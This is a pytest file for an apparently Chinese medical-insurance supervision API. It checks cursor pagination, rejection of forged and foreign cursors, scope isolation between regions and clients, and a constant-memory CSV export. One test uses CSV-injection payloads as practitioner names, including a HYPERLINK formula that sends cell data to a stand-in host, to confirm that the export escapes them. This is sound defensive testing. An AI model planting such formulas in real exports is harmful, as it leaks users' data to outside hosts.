"""Lists and exports at any size: one cursor paging style on every list (no offsets), exports streamed in
constant memory, spreadsheet formulas escaped in CSV cells.

Every list is walked at page sizes 1, 2 and 7 and must equal one unpaged request; a row inserted mid-walk must
not repeat one already seen; a cursor made with other filters is refused; and a cursor carries no authority
(another region's or client's cursor shows the caller only its own rows)."""
import base64
import csv
import io
import json
import tracemalloc
from dataclasses import dataclass, field
from datetime import date

import anyio
import pytest
from sqlalchemy import insert
from sqlmodel import Session

from api.auth.tokens import Role
from api.clock import utcnow
from api.db.models import Practitioner, StatusClock
from api.pagination import encode_cursor
from api.webhooks.outbox import fan_out

BJ, SH = "H11010500001", "H31010100001"
LISTS = ("practitioners", "objections", "staff", "my_objections", "webhooks", "deliveries", "claims")


def register(api, headers, code, institution=BJ, name=None):
    r = api.client.post("/v1/practitioners", headers=headers, json={
        "code": code, "name": name or f"人员{code[-3:]}", "category": "medical", "institution_code": institution,
        "registered_on": "2025-01-01"})
    assert r.status_code == 201, r.text


def beijing_staff(api, people, n=9):
    for i in range(n):
        register(api, people, f"D110105000{201 + i}")


def shanghai(api, n=3):
    sup = api.token(Role.SUPERVISOR, "310000", "上海市医保局")
    r = api.client.post("/v1/institutions", headers=sup, json={
        "code": SH, "name": "黄浦医院", "kind": "hospital", "region": "310101"})
    assert r.status_code == 201, r.text
    for i in range(n):
        register(api, sup, f"D310101000{101 + i}", SH)
    return sup


def objection(api, code, record_id):
    r = api.client.post("/v1/me/objections", headers=api.token(Role.PRACTITIONER, code),
                        json={"record_id": record_id, "reason": "异议"})
    assert r.status_code == 201, r.text
    return r.json()["id"]


def records(api, headers, codes, number, institution=BJ):
    body = {"violation_code": "L01", "decision_date": "2026-02-01", "case_number": number, "authority": "医保局",
            "institution_code": institution, "people": [{"practitioner_code": c, "points": 1} for c in codes]}
    r = api.client.post("/v1/cases", headers=headers, json=body)
    assert r.status_code == 201, r.text
    return [x["id"] for x in r.json()]


def claims(api, headers, refs, institution=BJ, code="D110105000123"):
    r = api.client.post("/v1/claims", headers=headers, json=[
        {"ref": ref, "institution_code": institution, "practitioner_code": code, "service_date": "2026-02-01",
         "amount": "10.00"} for ref in refs])
    assert r.status_code == 200 and all("state" in x for x in r.json()), r.text


@dataclass
class Spec:
    """A list as one caller sees it, and how to change it mid-walk."""
    url: str
    headers: dict
    key: str                              # what identifies an item
    insert: object                        # () -> None: add a row this caller sees
    params: dict = field(default_factory=dict)
    other_filters: dict | None = None     # the same list asked otherwise: its cursors are not ours
    foreign: tuple | None = None          # (headers, url, keys of every row it sees): another region or client


def _practitioners(api, people):
    beijing_staff(api, people)
    sup_sh = shanghai(api)
    return Spec("/v1/practitioners", people, "code", lambda: register(api, people, "D110105000001"),
                params={"status": "normal"}, other_filters={"status": "suspended"},
                foreign=(sup_sh, "/v1/practitioners", {f"D310101000{101 + i}" for i in range(3)}))


def _objections(api, people):
    beijing_staff(api, people)
    sup_sh = shanghai(api)
    codes = [f"D110105000{201 + i}" for i in range(9)]
    for code, rid in zip(codes, records(api, people, codes, "BJ-1")):
        objection(api, code, rid)
    sh_codes = [f"D310101000{101 + i}" for i in range(3)]
    sh_ids = {objection(api, c, r) for c, r in zip(sh_codes, records(api, sup_sh, sh_codes, "SH-1", SH))}
    extra = records(api, people, ["D110105000123"], "BJ-2")[0]
    return Spec("/v1/objections", people, "id", lambda: objection(api, "D110105000123", extra),
                other_filters={"state": "reviewed"}, foreign=(sup_sh, "/v1/objections", sh_ids))


def _staff(api, people):
    beijing_staff(api, people)
    shanghai(api)
    own = api.token(Role.INSTITUTION, BJ)
    return Spec(f"/v1/institutions/{BJ}/staff", own, "code", lambda: register(api, people, "D110105000001"),
                foreign=(api.token(Role.INSTITUTION, "H11010500002"), "/v1/institutions/H11010500002/staff", set()))


def _my_objections(api, people):
    me = "D110105000123"
    for n in range(9):
        objection(api, me, records(api, people, [me], f"BJ-{n}")[0])
    register(api, people, "D110105000201")
    other_ids = [objection(api, "D110105000201", r) for r in records(api, people, ["D110105000201"], "BJ-X")]
    extra = records(api, people, [me], "BJ-9")[0]
    return Spec("/v1/me/objections", api.token(Role.PRACTITIONER, me), "id", lambda: objection(api, me, extra),
                foreign=(api.token(Role.PRACTITIONER, "D110105000201"), "/v1/me/objections", set(other_ids)))


def _local_hooks(api):
    api.app.state.settings.webhook_allow = "127.0.0.1"
    api.app.state.settings.webhook_max_per_client = 50


def _subscribe(api, headers, n):
    ids = []
    for i in range(n):
        r = api.client.post("/v1/webhooks", headers=headers, json={"url": f"http://127.0.0.1:9/hook/{i}"})
        assert r.status_code == 201, r.text
        ids.append(r.json()["id"])
    return ids


def _webhooks(api, people):
    _local_hooks(api)
    mine, theirs = api.token(Role.SETTLEMENT, "110000", "北京结算"), api.token(Role.SETTLEMENT, "110000", "别的系统")
    _subscribe(api, mine, 9)
    other_ids = set(_subscribe(api, theirs, 2))
    return Spec("/v1/webhooks", mine, "id", lambda: _subscribe(api, mine, 1),
                foreign=(theirs, "/v1/webhooks", other_ids))


def _deliveries(api, people):
    _local_hooks(api)
    mine = api.token(Role.SETTLEMENT, "110000", "北京结算")
    sid = _subscribe(api, mine, 1)[0]
    beijing_staff(api, people)  # nine status changes: unregistered -> normal

    def one_more():
        register(api, people, "D110105000001")
        with Session(api.engine) as session:
            fan_out(session, utcnow())

    with Session(api.engine) as session:
        fan_out(session, utcnow())
    return Spec(f"/v1/webhooks/{sid}/deliveries", mine, "id", one_more, other_filters={"state": "failed"})


def _claims(api, people):
    mine = api.token(Role.SETTLEMENT, "110000", "北京结算")
    claims(api, mine, [f"BJ-{i}" for i in range(9)])
    shanghai(api)
    theirs = api.token(Role.SETTLEMENT, "310000", "上海结算")
    claims(api, theirs, [f"SH-{i}" for i in range(3)], SH, "D310101000101")
    return Spec("/v1/claims", mine, "ref", lambda: claims(api, mine, ["BJ-new"]), params={"status": "payable"},
                other_filters={"status": "blocked"}, foreign=(theirs, "/v1/claims", {f"SH-{i}" for i in range(3)}))


BUILD = {"practitioners": _practitioners, "objections": _objections, "staff": _staff,
         "my_objections": _my_objections, "webhooks": _webhooks, "deliveries": _deliveries, "claims": _claims}


def get_page(api, spec: Spec, limit, cursor=None, headers=None, url=None, params=None):
    query = {**(spec.params if params is None else params), "limit": limit, **({"cursor": cursor} if cursor else {})}
    return api.client.get(url or spec.url, headers=headers or spec.headers, params=query)


def walk(api, spec: Spec, limit, after_first_page=None) -> list:
    items, cursor, pages = [], None, 0
    while True:
        r = get_page(api, spec, limit, cursor)
        assert r.status_code == 200, r.text
        body = r.json()
        assert set(body) == {"items", "next_cursor", "next", "total"} and len(body["items"]) <= limit
        items += [item[spec.key] for item in body["items"]]
        pages += 1
        if pages == 1 and after_first_page:
            after_first_page()
        cursor = body["next_cursor"]
        if cursor is None:
            return items


def unpaged(api, spec: Spec) -> list:
    body = get_page(api, spec, 1000).json()
    assert body["next_cursor"] is None
    return [item[spec.key] for item in body["items"]]


@pytest.mark.parametrize("name", LISTS)
def test_pages_joined_equal_one_unpaged_request(api, people, name):
    spec = BUILD[name](api, people)
    everything = unpaged(api, spec)
    assert len(everything) >= 9 and len(set(everything)) == len(everything)
    for size in (1, 2, 7):
        assert walk(api, spec, size) == everything, size


@pytest.mark.parametrize("name", LISTS)
def test_a_row_inserted_mid_walk_repeats_nothing(api, people, name):
    spec = BUILD[name](api, people)
    before = unpaged(api, spec)
    seen = walk(api, spec, 2, after_first_page=spec.insert)
    assert len(seen) == len(set(seen)), f"repeated: {seen}"
    assert set(before) <= set(seen)
    assert len(unpaged(api, spec)) == len(before) + 1  # the insert was real


@pytest.mark.parametrize("name", LISTS)
def test_a_cursor_made_otherwise_is_refused(api, people, name):
    spec = BUILD[name](api, people)
    cursor = get_page(api, spec, 2).json()["next_cursor"]
    assert cursor
    payload = json.loads(base64.urlsafe_b64decode(cursor + "=" * (-len(cursor) % 4)))
    tries = [get_page(api, spec, 2, "not-a-cursor"), get_page(api, spec, 2, "%%%"),
             get_page(api, spec, 2, encode_cursor(payload["k"], {"list": "another list"})),
             get_page(api, spec, 2, encode_cursor(["x", 1], {}))]
    if spec.other_filters is not None:  # the same list asked with other filters
        tries.append(get_page(api, spec, 2, cursor, params=spec.other_filters))
    for r in tries:
        assert (r.status_code, r.json()["error"]["code"]) == (422, "CURSOR_INVALID"), r.text


@pytest.mark.parametrize("name", [n for n in LISTS if n != "deliveries"])
def test_a_cursor_carries_no_authority(api, people, name):
    """Walked by someone else (another region's supervisor, client, institution or person), a cursor shows
    only what that caller sees anyway: scope is part of every page's query, never of the cursor."""
    spec = BUILD[name](api, people)
    headers, url, theirs = spec.foreign
    cursor = get_page(api, spec, 1).json()["next_cursor"]  # after the first row of our list
    r = api.client.get(url, headers=headers, params={**spec.params, "limit": 1000, "cursor": cursor})
    if r.status_code == 422:  # the cursor names our list (an institution's staff): refused outright
        assert r.json()["error"]["code"] == "CURSOR_INVALID" and name == "staff"
        return
    assert r.status_code == 200, r.text
    assert {item[spec.key] for item in r.json()["items"]} == theirs  # all theirs (made later), none of ours


def test_every_list_pages_by_cursor_and_none_takes_an_offset(api):
    spec = api.client.get("/openapi.json").json()
    lists = {"/v1/practitioners", "/v1/objections", "/v1/institutions/{code}/staff", "/v1/me/objections",
             "/v1/webhooks", "/v1/webhooks/{subscription_id}/deliveries", "/v1/claims"}
    for path in lists:
        params = {p["name"]: p for p in spec["paths"][path]["get"]["parameters"]}
        assert "offset" not in params and "cursor" in params, path
        assert params["limit"]["schema"]["maximum"] == 1000 and params["limit"]["schema"]["minimum"] == 1, path
        ref = spec["paths"][path]["get"]["responses"]["200"]["content"]["application/json"]["schema"]["$ref"]
        assert set(spec["components"]["schemas"][ref.rsplit("/", 1)[1]]["properties"]) == {
            "items", "next_cursor", "next", "total"}


def test_limits_outside_1_to_1000_are_refused(api, people):
    for limit in (0, 1001, 2**31):
        r = api.client.get("/v1/practitioners", headers=people, params={"limit": limit})
        assert r.status_code == 422, limit


def test_claims_after_still_pages_as_an_alias_of_cursor(api, people):
    mine = api.token(Role.SETTLEMENT, "110000", "北京结算")
    claims(api, mine, [f"BJ-{i}" for i in range(5)])
    first = api.client.get("/v1/claims", headers=mine, params={"limit": 2}).json()
    by_after = api.client.get("/v1/claims", headers=mine, params={"limit": 2, "after": first["next_cursor"]}).json()
    by_cursor = api.client.get("/v1/claims", headers=mine, params={"limit": 2, "cursor": first["next_cursor"]}).json()
    assert by_after == by_cursor and [c["ref"] for c in by_after["items"]] == ["BJ-2", "BJ-3"]


# --- the CSV export ------------------------------------------------------------------------------------------

def _export_rows(api, headers, **params) -> list[list[str]]:
    r = api.client.get("/v1/practitioners/export.csv", headers=headers, params=params)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text
    return list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))


def test_cells_a_spreadsheet_would_run_as_formulas_are_escaped(api, people):
    names = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")", "+1+2", "-3", "@SUM(A1)", "\t=1", "\r=1", "王伟"]
    for i, name in enumerate(names):
        register(api, people, f"D110105000{301 + i}", name=name)
    rows = {row[0]: row[1] for row in _export_rows(api, people)[1:]}
    assert [rows[f"D110105000{301 + i}"] for i in range(len(names))] == ["'" + n for n in names[:-1]] + ["王伟"]


def test_the_export_holds_everything_the_list_shows(api, people, monkeypatch):
    from api.supervision import export

    monkeypatch.setattr(export, "CHUNK", 3)  # many chunks, each its own read
    beijing_staff(api, people)
    shanghai(api)
    rows = _export_rows(api, people)
    assert rows[0] == ["code", "name", "category", "region", "status", "until", "as_of"]
    listed = api.client.get("/v1/practitioners", headers=people, params={"limit": 1000}).json()["items"]
    assert [r[0] for r in rows[1:]] == [p["code"] for p in listed] and len(listed) == 10


def _bulk_people(engine, start: int, count: int, today: date) -> None:
    now = utcnow()
    with Session(engine) as session:
        session.execute(insert(Practitioner), [
            {"code": f"D110105{start + i:06d}", "name": f"人员{start + i}", "category": "medical",
             "region": "110105", "created_at": now, "status": "normal"}
            for i in range(count)])
        session.merge(StatusClock(id=1, as_of=today))  # their stored status is current as of today
        session.commit()


def _export_peak(app, token: str) -> tuple[int, int]:
    """Peak memory traced while the export runs through the app with a client that keeps nothing, and the size
    of the file sent."""
    sent = 0

    async def run():
        nonlocal sent
        requested = False

        async def receive():
            nonlocal requested
            if not requested:
                requested = True
                return {"type": "http.request", "body": b"", "more_body": False}
            await anyio.sleep_forever()

        async def send(message):
            nonlocal sent
            if message["type"] == "http.response.body":
                sent += len(message.get("body", b""))

        path = "/v1/practitioners/export.csv"
        await app({"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "GET",
                   "scheme": "http", "path": path, "raw_path": path.encode(), "root_path": "", "query_string": b"",
                   "server": ("127.0.0.1", 80), "client": ("127.0.0.1", 5000),
                   "headers": [(b"host", b"127.0.0.1"), (b"authorization", f"Bearer {token}".encode())]},
                  receive, send)

    app.state.export_limiter = None  # made again in this event loop
    tracemalloc.start()
    try:
        anyio.run(run)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return peak, sent


def test_the_export_streams_in_constant_memory(api, people):
    """Twice the people, the same memory: the file is never held whole, nor the people read at once."""
    national = api.token(Role.SUPERVISOR, "000000")["Authorization"].split()[1]
    _bulk_people(api.engine, 500_000, 15_000, api.clock.today)
    peak_small, size_small = _export_peak(api.app, national)
    _bulk_people(api.engine, 600_000, 15_000, api.clock.today)
    peak_large, size_large = _export_peak(api.app, national)
    assert size_large > 1.9 * size_small > 1_000_000
    assert peak_large < 1.3 * peak_small + 200_000, (peak_small, peak_large)
